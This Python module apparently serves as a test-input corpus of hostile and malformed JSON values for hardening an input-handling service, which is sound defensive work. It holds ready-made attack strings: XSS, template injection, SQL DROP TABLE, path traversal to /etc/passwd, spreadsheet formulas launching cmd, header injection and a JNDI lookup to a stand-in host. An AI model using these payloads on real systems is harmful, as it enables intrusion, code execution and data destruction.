"""What a hostile or broken sender puts where a value is expected: JSON as text, by what it is.

Text, not objects: much of it has no form in Python, or is no JSON at all.
"""

from __future__ import annotations

import base64
import json

SCRIPT = "<script>window.pwned=1</script>"

TEXTS: dict[str, str] = {
    "nothing": "",
    "blank": " \t\r\n",
    "script": SCRIPT,
    "script that closes an attribute": f"\"'>{SCRIPT}",
    "script that closes a comment": f"--></style></textarea></title>{SCRIPT}",
    "image that fails": "<img src=x onerror=window.pwned=1>",
    "image from elsewhere": '<img src="http://pwned.invalid/a.png">',
    "svg that loads": "<svg/onload=window.pwned=1>",
    "markup that mutates": '<math><mtext><table><mglyph><style><img src onerror="window.pwned=1">',
    "frame": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "form": '<form action="http://pwned.invalid"><button>Sign in</button></form>',
    "styles": "<style>@import 'http://pwned.invalid/a.css';</style>",
    "script address": "javascript:window.pwned=1",
    "script address in disguise": "java\tscript:window.pwned=1",
    "link in markdown": "[a](javascript:window.pwned=1) ![b](http://pwned.invalid/b.png)",
    "page as data": "data:text/html;base64," + base64.b64encode(SCRIPT.encode()).decode(),
    "attributes of htmx": '<div hx-get="http://pwned.invalid" hx-trigger="load" hx-on:load="x()">',
    "template of Django": "{% load static %}{{ 7|add:7 }}{% include 'base.html' %}",
    "template of Jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "template of others": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('pwned=1')()}}",
    "format": "{0.__class__.__init__.__globals__} %s%n%(password)s",
    "formula": '=HYPERLINK("http://pwned.invalid","click")',
    "formula with a plus": "+cmd|' /C calc'!A0",
    "formula with an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula in full width": "＝1+1",
    "statement": "'; DROP TABLE agent_sessions_event; --",
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\windows\\win.ini",
    "header": "a\r\nSet-Cookie: pwned=1\r\n\r\n<script>",
    "look-up": "${jndi:ldap://pwned.invalid/a}",
    "terminal": "\x1b[2J\x1b]0;pwned\x07\x9b31m",
    "right to left": "safe\u202egnp.exe\u2066\u2067\u2069",
    "look-alikes": "\u0430dm\u0456n раураl",
    "no width": "p\u200bw\u200cn\u200de\u2060d\ufeff",
    "marks without end": "Z" + "\u0301\u0489" * 900,
    "no characters": "\ufffe\uffff\U0010ffff\ufdd0",
    "private use": "\ue000\U000f0000",
    "Arabic": "اختبار " * 20,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 40,
    "long word": "x" * 600,
    "long text": "long " * 20_000,
    "long text in two bytes": "ы" * 70_000,
    "words that are values": "null",
    "not a number": "NaN",
    "time of PostgreSQL": "infinity",
    "time in words": "now",
    "ancient time": "0001-01-01T00:00:00Z",
    "time before all": "-4713-11-24T00:00:00Z",
    "last time": "9999-12-31T23:59:59.999999Z",
    "time after the last": "+275760-09-13T00:00:00Z",
    "time at the edge of a zone": "9999-12-31T23:59:59-23:59",
    "time that is none": "2026-13-45T25:61:61Z",
    "leap second": "2026-06-30T23:59:60Z",
    "time without a zone": "2026-11-21T00:00:00",
    "number of 5,000 digits in text": "9" * 5_000,
    "number with an exponent in text": "1e400",
    "JSON in text": '{"__proto__": {"isAdmin": true}}',
    "JSON in text, cut": '[{"role": "user", "content": "Hel',
    "JSON in text, quoted twice": json.dumps(json.dumps({"a": [1, "b"]})),
    "JSON in text, deep": "[" * 5_000,
    "JSON in text with a number without end": '{"a": ' + "9" * 5_000 + "}",
    "regular expression": "(a+)+$" + "a" * 5_000 + "!",
    "our reference": '{"$ph":"00000000000000000000000000000000"}',
}

VALUES: dict[str, str] = {name: json.dumps(text) for name, text in TEXTS.items()} | {
    "null": "null",
    "true": "true",
    "zero": "0",
    "minus one": "-1",
    "minus zero": "-0.0",
    "half": "0.5",
    "billion": "1000000000",
    "2^53 + 1": "9007199254740993",
    "2^63 - 1": "9223372036854775807",
    "2^63": "9223372036854775808",
    "-2^63 - 1": "-9223372036854775809",
    "5,000 digits": "9" * 5_000,
    "5,000 decimals": "0." + "3" * 5_000,
    "1e308": "1e308",
    "1e400": "1e400",
    "1e-400": "1e-400",
    "NaN": "NaN",
    "Infinity": "Infinity",
    "-Infinity": "-Infinity",
    "NUL": r'"a\u0000b"',
    "first half of a pair": r'"a\ud83db"',
    "second half of a pair": r'"a\ude00b"',
    "pair the wrong way round": r'"\ude00\ud83d"',
    "NUL in a key": r'{"a\u0000b": 1}',
    "half a pair in a key": r'{"a\ud800b": 1}',
    "empty list": "[]",
    "empty object": "{}",
    "list of null": "[null]",
    "lists in lists": "[[[[]]]]",
    "list of all types": '[null, true, 0, 1.5, "a", [], {}]',
    "5,000 nulls": "[" + ",".join(["null"] * 5_000) + "]",
    "empty key": '{"": {"": ""}}',
    "key twice": '{"a": 1, "a": 2}',
    "__proto__": '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"x": 1}}}',
    "dotted keys": '{"a.b.c": 1, "a.b": {"c": 2}, "a": 3, "..": 4}',
    "our mark as a key": '{"$ph": "00000000000000000000000000000000"}',
    "our mark with more": '{"$ph": {"$ph": "x"}, "$ph$ph": 1}',
    "long key": json.dumps({"k" * 300: 1}),
    "10,001 keys": json.dumps({str(number): 0 for number in range(10_001)}),
    "150 deep": "[" * 150 + "]" * 150,
    "message without a role": '{"messages": [{"content": "Hello"}]}',
    "messages that are none": '{"messages": [1, null, [], {"role": 5, "content": {"a": [1]}}]}',
    "message of odd parts": json.dumps(
        {"messages": [{"role": SCRIPT, "content": [{"type": SCRIPT, "text": {"a": SCRIPT}}, 7]}]}
    ),
    "parts of odd types": json.dumps(
        {"messages": [{"role": "user", "parts": [{"type": 1, "content": []}, "a", None]}]}
    ),
    "tool calls that are none": json.dumps(
        {"messages": [{"role": "assistant", "tool_calls": [{"function": "x", "id": {}}, 5, {}]}]}
    ),
    "image from elsewhere in a part": json.dumps(
        {
            "messages": [
                {
                    "role": "user",
                    "content": [
                        {"type": "image_url", "image_url": {"url": "http://pwned.invalid/c.png"}}
                    ],
                }
            ]
        }
    ),
    "patch of a place that is not there": '[{"op": "replace", "path": "/a/b/c", "value": 1}]',
    "patch with a hostile path": json.dumps([{"op": "add", "path": f"/{SCRIPT}", "value": SCRIPT}]),
    "patch of an index without end": '[{"op": "add", "path": "/99999999999999999999", "value": 1}]',
}
